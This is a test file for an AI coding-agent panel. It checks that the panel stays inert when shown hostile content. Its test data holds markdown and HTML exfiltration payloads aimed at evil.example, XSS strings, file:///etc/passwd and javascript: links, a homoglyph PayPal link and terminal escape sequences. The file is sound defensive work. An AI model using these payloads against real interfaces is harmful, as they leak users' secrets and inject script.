import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { root } from '../../scripts/ensure.mjs';
import type { Change } from '../../src/shared/changeSet';
import type { PanelEvent } from '../../src/shared/panelEvent';
import { openPanelPage, type PanelPage } from '../support/panelPage';

let panel: PanelPage;
beforeAll(async () => {
  panel = await openPanelPage();
});
afterAll(() => panel.close());

/** A conversation in which model, tool and file names all say `text`. */
function saying(text: string): readonly PanelEvent[] {
  return [
    { type: 'prompt_sent', text, attachments: [{ id: 'a', path: text }] },
    { type: 'turn_started', turnId: 't', prompt: text },
    { type: 'thought_streamed', turnId: 't', text },
    { type: 'text_streamed', turnId: 't', text },
    { type: 'tool_started', turnId: 't', callId: 'c', tool: 'read_file', args: { path: text, [text]: text }, title: text },
    { type: 'tool_output', turnId: 't', callId: 'c', stream: 'stdout', text },
    { type: 'tool_ended', turnId: 't', callId: 'c', isError: true, text: `${text}!`, durationMs: 3 },
    { type: 'notice_shown', level: 'warning', message: text, fixes: [] },
    { type: 'tool_started', turnId: 't', callId: 's', tool: 'suggest_command', args: { command: text, reason: text }, title: text },
    { type: 'turn_ended', turnId: 't', reason: 'error', message: text },
  ];
}

async function showAll(events: readonly PanelEvent[]): Promise<void> {
  await panel.restore(events);
  for (const head of await panel.page.locator('.tool-head').all()) await head.click();
  for (const summary of await panel.page.locator('summary').all()) await summary.click();
  await panel.page.waitForTimeout(200);
}

const evil = 'https://evil.example';

describe('T31: nothing that is shown makes a request', () => {
  test.each([
    ['an image', `![alt](${evil}/?d=SECRET)`],
    ['an image by reference', `![alt][x]\n\n[x]: ${evil}/?d=SECRET`],
    ['an img element', `<img src="${evil}/?d=SECRET">`],
    ['svg', `<svg><image href="${evil}/?d=S"/><use href="${evil}/a.svg#x"/></svg>`],
    ['a style with url()', `<style>*{background:url(${evil}/?d=S)}</style><p style="background:url(${evil}/?d=S)">x</p>`],
    ['prefetch, preload and base', `<link rel="prefetch" href="${evil}"><link rel="dns-prefetch" href="${evil}"><base href="${evil}">`],
    ['frames and media', `<iframe src="${evil}"></iframe><video src="${evil}" poster="${evil}"></video><object data="${evil}"></object>`],
    ['a form and a refresh', `<form action="${evil}"><input></form><meta http-equiv="refresh" content="0;url=${evil}">`],
    ['a link alone', `[read this](${evil}/?d=SECRET) and ${evil}/?d=SECRET`],
    ['an image in a table and a list', `| a |\n|---|\n| ![x](${evil}/1) |\n\n- ![y](${evil}/2)\n`],
    ['a data url', `![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)`],
  ])('%s', async (_, text) => {
    await showAll(saying(text));
    expect(panel.requests).toEqual([]);
    expect(await panel.page.locator('.messages').locator('img, svg, iframe, style, link, object, video, form').count()).toBe(0);
  });
});

describe('T32: the page’s policy holds in the browser', () => {
  test('an injected script, an inline handler, a fetch and an image are all refused', async () => {
    const other = await openPanelPage();
    try {
      const failed: string[] = [];
      other.page.on('requestfailed', (request) => failed.push(`${request.url()} ${request.failure()?.errorText ?? ''}`));
      const outcome = await other.page.evaluate(`(async () => {
        const script = document.createElement('script');
        script.textContent = 'window.owned = true';
        document.body.append(script);
        const box = document.createElement('div');
        box.innerHTML = '<button onclick="window.owned = true">x</button><img src="https://evil.example/i.png">';
        document.body.append(box);
        box.querySelector('button').click();
        const fetched = await fetch('/webview.js').then(() => 'fetched', () => 'refused');
        await new Promise((resolve) => setTimeout(resolve, 300));
        return { owned: 'owned' in window, fetched };
      })()`);
      expect(outcome).toEqual({ owned: false, fetched: 'refused' });
      expect(failed.filter((line) => line.startsWith('https://evil.example'))).toEqual(['https://evil.example/i.png csp']);
    } finally {
      await other.close();
    }
  });
});

describe('T33: links that are not of the web are inert', () => {
  test.each([
    'command:workbench.action.terminal.new',
    'vscode://file/etc/passwd',
    'vscode-insiders://x',
    'file:///etc/passwd',
    'javascript:window.owned=1',
    'data:text/html,x',
    'JaVaScRiPt:alert(1)',
    'vbscript:x',
  ])('%s', async (url) => {
    await panel.restore(saying(`[click me](${url}) <${url}> ${url}`));
    const before = (await panel.sent()).length;
    expect(await panel.page.locator('.markdown a, .markdown [data-url]').count()).toBe(0);
    expect(await panel.page.locator('a[href]').count()).toBe(0);
    await panel.page.locator('.answer').click();
    expect((await panel.sent()).slice(before)).toEqual([]);
  });
});

describe('T34: where a link leads is seen before it opens', () => {
  const target = 'https://evil.example/steal?d=SECRET&u=https://good.example/';

  test('words that are not the target: the whole URL is shown, and opens only then', async () => {
    await panel.restore(saying(`[https://good.example/](${target})`));
    const before = (await panel.sent()).length;
    await panel.page.locator('.answer .link').first().click();
    expect((await panel.page.locator('.dialog-url').innerText()).replaceAll('\n', '')).toBe(target);
    expect((await panel.sent()).slice(before)).toEqual([]);
    await panel.page.locator('.dialog button', { hasText: 'Cancel' }).click();
    expect((await panel.sent()).slice(before)).toEqual([]);
    await panel.page.locator('.answer .link').first().press('Enter');
    await panel.page.locator('.dialog button', { hasText: 'Open' }).click();
    expect((await panel.sent()).slice(before)).toEqual([{ type: 'link_opened', url: target }]);
  });

  test('a URL that stands there in full opens by its click', async () => {
    await panel.restore(saying(`See ${evil}/docs`));
    const before = (await panel.sent()).length;
    await panel.page.locator('.answer .link').first().click();
    expect((await panel.sent()).slice(before)).toEqual([{ type: 'link_opened', url: `${evil}/docs` }]);
  });

  test('a host in look-alike letters is shown in its real form', async () => {
    await panel.restore(saying('[paypal](https://pаypal.com/)'));
    await panel.page.locator('.answer .link').first().click();
    expect(await panel.page.locator('.dialog-url').innerText()).toContain('xn--');
    await panel.page.keyboard.press('Escape');
    await panel.page.locator('.dialog').waitFor({ state: 'detached' });
  });
});

describe('T35: markup from outside is text', () => {
  test.each([
    '<script>window.owned=1</script>',
    '"><img src=x onerror=window.owned=1>',
    "<svg onload='window.owned=1'>",
    '<b>bold</b>&lt;i&gt;',
  ])('%s', async (text) => {
    await showAll(saying(text));
    const seen = await panel.page.locator('.messages').innerText();
    expect(seen.split(text).length - 1).toBeGreaterThanOrEqual(6);
    expect(await panel.page.evaluate(`'owned' in window`)).toBe(false);
  });

  test('a file name in the review is text too', async () => {
    const name = '<img src=x onerror=window.owned=1>.ts';
    const details = { id: 'd', baseHash: null, stagedHash: 'x', size: 1, marks: [], lines: { added: 1, removed: 0 } };
    await panel.restore(
      [],
      {},
      {
        approvalId: 'a',
        conflicts: [],
        changeSet: { id: 's', changes: [{ kind: 'created', path: name, entry: 'file', details }] },
      },
    );
    expect(await panel.page.locator('.review-name').innerText()).toBe(name);
    expect(panel.requests).toEqual([]);
  });
});

describe('T37: what a program prints is shown without its powers', () => {
  test('OSC 52, OSC 8 and cursor moves are gone, colours stay', async () => {
    const output = '\u001b]52;c;cm0=\u0007\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\ \u001b[2J\u001b[31mred\u001b[0m';
    await showAll([
      { type: 'turn_started', turnId: 't', prompt: 'x' },
      { type: 'tool_started', turnId: 't', callId: 'c', tool: 'bash', args: {}, title: 'run' },
      { type: 'tool_output', turnId: 't', callId: 'c', stream: 'stdout', text: output },
    ]);
    expect(await panel.page.locator('.output').innerText()).toBe('link red');
    expect(await panel.page.locator('.output .ansi-fg-1').innerText()).toBe('red');
    expect(await panel.page.locator('.output a').count()).toBe(0);
  });
});

describe('T38: no character stays unseen', () => {
  test('in the answer, in code, in a card’s title, arguments and output, in a notice and in the review', async () => {
    await showAll(saying('a\u202eb `c\u{e0041}d` e\u200bf'));
    for (const place of ['.prompt', '.answer', '.tool-title', '.arguments', '.output', '.notice', '.suggestion']) {
      const markers = await panel.page.locator(place).first().locator('.invisible-character').allInnerTexts();
      expect(markers.slice(0, 3), place).toEqual(['U+202E', 'U+E0041', 'U+200B']);
    }
    expect(await panel.page.locator('.messages').innerText()).not.toMatch(/[\u202e\u200b\u{e0041}]/u);
  });

  test('speaks the language of the words it is given, with names and numbers in their places', async () => {
    const words = JSON.parse(readFileSync(path.join(root, 'l10n/bundle.l10n.ja.json'), 'utf8')) as Record<string, string>;
    const change = (name: string): Change => ({
      kind: 'modified',
      path: name,
      entry: 'file',
      details: { id: name, baseHash: null, stagedHash: null, size: 1, marks: ['protected'] },
    });
    const events: readonly PanelEvent[] = [
      { type: 'prompt_sent', text: 'hi', attachments: [] },
      { type: 'turn_started', turnId: 't', prompt: 'hi' },
      { type: 'changes_discarded', paths: ['a.txt'] },
      { type: 'turn_ended', turnId: 't', reason: 'aborted' },
    ];
    const review = { approvalId: 'id', changeSet: { id: 'set', changes: [change('a'), change('b')] }, conflicts: [] };
    await panel.restore(events, {}, review, words);
    const body = panel.page.locator('body');
    await body.getByText('a.txt を破棄しました').waitFor();
    expect(await body.innerText()).toContain('確認待ちの変更 2 件');
    expect(await body.innerText()).toContain('停止しました');
    expect(await body.getByRole('button', { name: '適用', exact: true }).count()).toBe(1);
    expect(await panel.page.locator('textarea').getAttribute('placeholder')).toBe('harbour について質問する');
    await panel.page.screenshot({ path: path.join(root, 'test-results/panel-ja.png') });
  });
});
